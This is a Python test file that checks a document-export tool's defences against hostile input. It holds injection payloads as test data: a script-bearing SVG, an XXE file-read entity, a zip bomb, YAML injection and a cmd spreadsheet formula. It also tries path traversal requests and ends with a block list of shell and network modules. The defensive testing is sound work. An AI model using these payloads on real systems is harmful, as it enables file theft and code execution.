    """It is told by its bytes, and not by its name, that a picture is one."""
    (second / "framework/themes").mkdir()
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    (second / "framework/themes/own.png").write_bytes(drawing)
    (second / "framework/themes/own.yaml").write_text("logo: {file: own.png, alt: Arwydd}\n", encoding="utf-8")
    done = run(second, "check", "--format", "concise")
    assert done.return_value == 1
    assert "own.png is no PNG or JPEG picture" in done.output


def workbook(sheet: bytes) -> bytes:
    from openpyxl import Workbook

    stream = io.BytesIO()
    Workbook().save(stream)
    with zipfile.ZipFile(stream) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    return opc.pack({**parts, "xl/worksheets/sheet1.xml": sheet})


SHEET = (
    '<!DOCTYPE a [<!ENTITY b SYSTEM "{}">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>'
)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be", "utf-7"])
def test_a_workbook_brings_no_file_in(encoding: str, second: Path, outside: Path, tmp_path: Path) -> None:
    sheet = f'<?xml version="1.0" encoding="{encoding}"?>' + SHEET.format((outside / "canary").as_uri())
    path = tmp_path / "stranger.xlsx"
    path.write_bytes(workbook(sheet.encode(encoding)))
    target = tmp_path / "new"
    arguments = ["init", str(target), "--from", str(path), "--holder", "A", "--language", "en"]
    done = CliRunner().invoke(leadframe, arguments, standalone_mode=False)
    assert isinstance(done.exception, CannotDo), done.output
    assert SECRET not in f"{done.output}{done.exception}"
    assert not target.exists()
    assert isinstance(run(second, "import", path).exception, CannotDo)


def test_a_package_that_says_it_is_small_is_not_believed() -> None:
    """The size that an entry says it has is what is read of it, whatever it unpacks to."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("word/document.xml", b"\0" * 30_000_000)
    content = bytearray(stream.getvalue())
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = content.index(mark) + place
        content[start : start + 4] = (1000).to_bytes(4, "little")
    with pytest.raises(CannotDo, match="is no workbook, or is damaged"):
        opc.opened(bytes(content), "small.xlsx", "workbook")


def test_a_comment_of_a_reviewer_becomes_no_data(second: Path, tmp_path: Path) -> None:
    """Words and name of a reviewer stand in the YAML as comments, whatever line ends they have."""
    assert run(second, "export", "docx", "--no-page-numbers", "--consultation", "-o", tmp_path).return_value == 0
    path = next(tmp_path.rglob("*.docx"))
    nasty = "fine\nid: owned\r- x\u2028rules: {}\x85title: owned\t# x"
    reviewer = Reviewer(path.read_bytes(), author="A\u2028id: owned")
    reviewer.comment(next(one for one in reviewer.texts if "clywed" in one), 0, 3, nasty.replace("\x85", " "))
    path.write_bytes(reviewer.saved())
    before = run(second, "export", "json", "-o", tmp_path / "before")
    run(second, "import", path, "--comments")
    text = (second / DOMAIN).read_text(encoding="utf-8")
    assert "owned" in text
    assert [line for line in text.splitlines() if "owned" in line and not line.lstrip().startswith("#")] == []
    after = run(second, "export", "json", "-o", tmp_path / "after")
    assert before.return_value == after.return_value == 0
    assert kept(tmp_path / "before") == kept(tmp_path / "after")


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_no_cell_for_a_spreadsheet_program_is_a_formula(sign: str, second: Path, tmp_path: Path) -> None:
    import openpyxl

    text = f"{sign}cmd|' /C calc'!A0"
    replaced(second, DOMAIN, "title: Canu ynghyd", f"title: {json.dumps(text)}")
    formats = ["csv", "xlsx", "questionnaire", "crosswalks"]
    done = run(second, "export", *formats, "--excel", "--no-page-numbers", "-o", tmp_path / "out")
    assert done.return_value == 0, done.output
    found = 0
    for path in (tmp_path / "out").rglob("*.xlsx"):
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    found += text in str(cell.value)
                    assert cell.data_type != "f" or text not in str(cell.value)
    for path in (tmp_path / "out/csv-excel").rglob("*.csv"):
        for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            found += any(text in cell for cell in line)
            assert not any(cell.startswith(text) for cell in line), path
    assert found > 1


# The preview on a machine that others use, too


def test_the_preview_listens_on_this_machine_and_lets_no_page_from_elsewhere_read_it() -> None:
    with serving() as made:
        assert made.socket.getsockname()[0] == "127.0.0.1"
        for headers in ({}, {"Origin": "http://evil.example"}, {"Origin": "null"}):
            got = get(made.server_port, "/", **headers)
            assert not [name for name in got.headers if name.lower().startswith(("access-control-", "set-cookie"))]
            assert {name: got.headers[name] for name in HEADERS} == HEADERS
        preflight = send_bytes(
            made.server_port,
            b"OPTIONS / HTTP/1.1\r\nHost: localhost:%d\r\nOrigin: http://evil.example\r\n"
            b"Access-Control-Request-Method: PUT\r\nAccess-Control-Request-Private-Network: true\r\n\r\n"
            % made.server_port,
        )
        assert preflight.startswith(b"HTTP/1.0 405 ")
        assert b"access-control" not in preflight.lower()


def test_nobody_makes_the_preview_write_or_show_another_file(tmp_path: Path) -> None:
    root = copy(SECOND, tmp_path / "project")
    (root / "framework/notes.txt").write_text(SECRET, encoding="utf-8")
    (root / ".env").write_text(SECRET, encoding="utf-8")
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    with previewed(root, "--port", "0") as running:
        for method in ("PUT", "POST", "DELETE", "PATCH", "MOVE", "PROPFIND"):
            assert get(running.port, "/index.html", method).status == 405
        for target in ("/.env", "/framework/notes.txt", "/../.env", "/%2e%2e/.env", "/.git/config", "/framework.yaml"):
            got = get(running.port, target)
            assert got.status == 404
            assert SECRET.encode() not in got.body
    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before


def test_the_pages_of_a_preview_run_no_script_of_the_content(tmp_path: Path) -> None:
    project = hostile(SECOND, tmp_path / "project")
    with previewed(project, "--port", "0") as running:
        page = running.page()
        assert SECRET in page
        assert "<script>alert(1)" not in page
        policy = get(running.port).headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy


# Readers of a feedback report


def test_a_report_tells_nothing_of_the_machine_or_the_hour(tmp_path: Path) -> None:
    """Two machines, two days and two people make the same report; only the record beside it is a secret."""
    asked = answers.everything(SECOND)
    rows = [answers.row(one, answers.all_of(one, 2)) for one in (asked[0], asked[1], *[asked[2]] * 4)]
    made = []
    for place, user, hour in (("here", "anna", 1), ("a/very/private/folder", "bob", 2)):
        folder = tmp_path / place
        folder.mkdir(parents=True)
        (folder / "r.csv").write_bytes(answers.table(rows))
        os.utime(folder / "r.csv", (hour * 1e8, hour * 1e8))
        environment = {**os.environ, "PYTHONPATH": str(ROOT / "tools"), "USER": user, "LOGNAME": user, "TZ": f"X{hour}"}
        command = [sys.executable, "-m", "leadframe", "--project", str(SECOND), "feedback", "report"]
        done = subprocess.run(
            [*command, "r.csv", "-o", "out"], cwd=folder, env=environment, capture_output=True, check=False
        )
        assert done.returncode == 0, done.stderr
        made.append({path.name: path.read_bytes() for path in (folder / "out").iterdir()})
        record = folder / "out.record.json"
        assert record.stat().st_mode & 0o077 == 0
        assert not re.search("private|anna|bob|20[0-9]{2}-", record.read_text(encoding="utf-8"))
    assert made[0] == made[1]
    for content in made[0].values():
        parts = opc.unpack(content).values() if content.startswith(b"PK") else [content]
        for part in parts:
            assert not re.search(rb"anna\b|/private/|r\.csv|/tmp/", part)


def test_the_salt_of_a_record_is_long_and_never_the_same(tmp_path: Path) -> None:
    asked = answers.everything(SECOND)
    rows = [answers.row(one, answers.all_of(one, 2)) for one in (asked[0], *[asked[2]] * 4)]
    (tmp_path / "r.csv").write_bytes(answers.table(rows))
    records = []
    for name in ("one", "two"):
        assert run(SECOND, "feedback", "report", tmp_path / "r.csv", "-o", tmp_path / name).return_value == 0
        records.append(json.loads((tmp_path / f"{name}.record.json").read_bytes()))
    assert [len(record["salt"]) for record in records] == [64, 64]
    assert records[0]["salt"] != records[1]["salt"]
    assert not set(records[0]["replies"]) & set(records[1]["replies"])


# The source


SOURCES = sorted((ROOT / "tools/leadframe").rglob("*.py"))
FORBIDDEN = {
    "ctypes", "dill", "ftplib", "imaplib", "marshal", "multiprocessing", "nntplib", "pickle", "poplib", "pty",
    "requests", "runpy", "shelve", "smtplib", "ssl", "telnetlib", "urllib.request", "urllib3", "aiohttp", "httpx",
    "xmlrpc",
}  # fmt: skip
ONLY = {
    "socket": {"cli/preview/server.py"},
    "socketserver": {"cli/preview/server.py"},
    "http.server": {"cli/preview/server.py"},
    "subprocess": {"cli/git.py", "cli/office.py"},
    "webbrowser": {"cli/preview/__init__.py"},
}
"""Modules that one place may import, and no other."""


def imports(tree: ast.AST) -> Iterator[str]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from (alias.name for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            yield node.module
            yield from (f"{node.module}.{alias.name}" for alias in node.names)


def called(node: ast.Call) -> str:
    return ast.unparse(node.func)


def test_the_source_has_no_shell_no_eval_and_no_network() -> None:
    found = []
    for path in SOURCES:
        name = path.relative_to(ROOT / "tools/leadframe").as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for module in imports(tree):
            names = {module, module.split(".")[0]}
            found += [(name, module) for one in names & FORBIDDEN]
            found += [(name, one) for one in names & ONLY.keys() if name not in ONLY[one]]
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                if called(node) in ("eval", "exec", "compile", "__import__", "os.system", "os.popen", "input"):
                    found.append((name, called(node)))
                if re.fullmatch(r"yaml\.(unsafe_|full_)?load(_all)?|os\.(exec|spawn)\w*", called(node)):
                    found.append((name, called(node)))
                if any(key.arg == "shell" for key in node.keywords):
                    found.append((name, "shell"))
    assert found == []


def test_only_names_that_are_listed_are_imported_by_name() -> None:
    """A name of a module that is not written in the source comes from a tuple that is, never from content."""
    places = {
        path.relative_to(ROOT / "tools/leadframe").as_posix()
        for path in SOURCES
        if "import_module" in path.read_text(encoding="utf-8")
    }
    assert places == {
        "cli/lazy.py",
        "content/upgrades/__init__.py",
        "exporters/__init__.py",
        "exporters/questionnaire/__init__.py",
        "exporters/word/pieces/__init__.py",
        "reporters/__init__.py",
        "reporters/changes/__init__.py",
        "reporters/consultation/__init__.py",
        "rules/__init__.py",
    }


def test_every_template_engine_escapes() -> None:
    for path in SOURCES:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and called(node).endswith("Environment"):
                said = {key.arg: ast.unparse(key.value) for key in node.keywords}
                assert said.get("autoescape") == "True", path


def test_every_exception_from_a_rule_of_safety_has_a_reason() -> None:
    """Of bandit and of ruff, which look for what is dangerous: a waiver names the rule and says why."""
    bare = []
    for path in (*SOURCES, *sorted((ROOT / "docs").rglob("*.py")), *sorted((ROOT / "benchmarks").rglob("*.py"))):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"#\s*nosec", line) and not re.search(r"# nosec( B[0-9]{3})+  # \S+( \S+){3,}", line):
                bare.append(f"{path.name}:{number}")
    assert bare == []


# The page


PAGE = ROOT / "docs/security.md"
ROW = re.compile(r"^\| (.+?) \| (.+?) \| (.+?) \| (.+?) \|$", re.MULTILINE)
NAMED = re.compile(r"`(test_\w+)::(test_\w+)`")


def threats() -> list[tuple[str, str, str, str]]:
    """The rows of the tables: threat, what stands against it, what remains, tests."""
    rows = ROW.findall(PAGE.read_text(encoding="utf-8"))
    return [row for row in rows if row[0] != "threat" and not row[0].startswith("---")]


def names_in(file: str) -> set[str]:
    tree = ast.parse((ROOT / f"tests/{file}.py").read_text(encoding="utf-8"))
    return {node.name for node in tree.body if isinstance(node, ast.FunctionDef) and node.name.startswith("test_")}


def test_every_threat_has_a_test_that_there_is() -> None:
    assert len(threats()) >= 30
    for threat, stands, remains, tests in threats():
        assert NAMED.findall(tests), threat
        assert stands.strip() and remains.strip(), threat
        for file, name in NAMED.findall(tests):
            assert name in names_in(file), f"{threat}: there is no {file}::{name}"


def test_every_test_of_a_threat_is_in_the_table() -> None:
    told = {name for _, _, _, tests in threats() for file, name in NAMED.findall(tests) if file == "test_security"}
    of_the_page = {"test_every_threat_has_a_test_that_there_is", "test_every_test_of_a_threat_is_in_the_table"}
    of_the_spy = {"test_the_spy_sees_what_it_is_there_to_see"}
    allowed = {
        "test_every_exception_from_a_rule_of_safety_has_a_reason",
        "test_what_teams_write_is_allowed",
        "test_what_a_program_writes_to_its_own_output_goes_through_the_links_of_the_system",
    }
    assert names_in("test_security") - told == of_the_page | of_the_spy | allowed
